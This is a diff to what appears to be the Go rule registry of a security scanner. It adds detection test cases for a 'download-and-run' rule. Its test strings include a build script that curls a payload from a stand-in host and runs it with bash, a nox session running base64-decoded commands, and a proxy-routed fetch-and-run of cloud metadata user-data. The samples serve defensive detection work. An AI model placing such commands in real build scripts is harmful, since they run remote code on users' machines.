@@ -187,6 +187,10 @@ var registry = []Rule{
 			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// A template string with nothing interpolated is the literal a
+		// quoted string is: the commands it starts are read as written.
+		{"scripts/build.js", "const { execSync } = require(\"child_process\");\nexecSync(`curl -s https://x.invalid/p -o /tmp/p.sh`);\nexecSync(`bash /tmp/p.sh`);", 3, false},
+		{"scripts/build.js", "const { execSync } = require(\"child_process\");\nexecSync(`npm run build`);\nexecSync(`git rev-parse ${ref}`);", 0, true},
 		// The runner's own machine answers what it serves; a proxy set in
 		// the script sends the request, and takes the answer, elsewhere.
 		{"x.sh", "export http_proxy=http://x.invalid:3128\ncurl -s http://169.254.169.254/latest/user-data -o /tmp/u.sh\nbash /tmp/u.sh", 3, false},
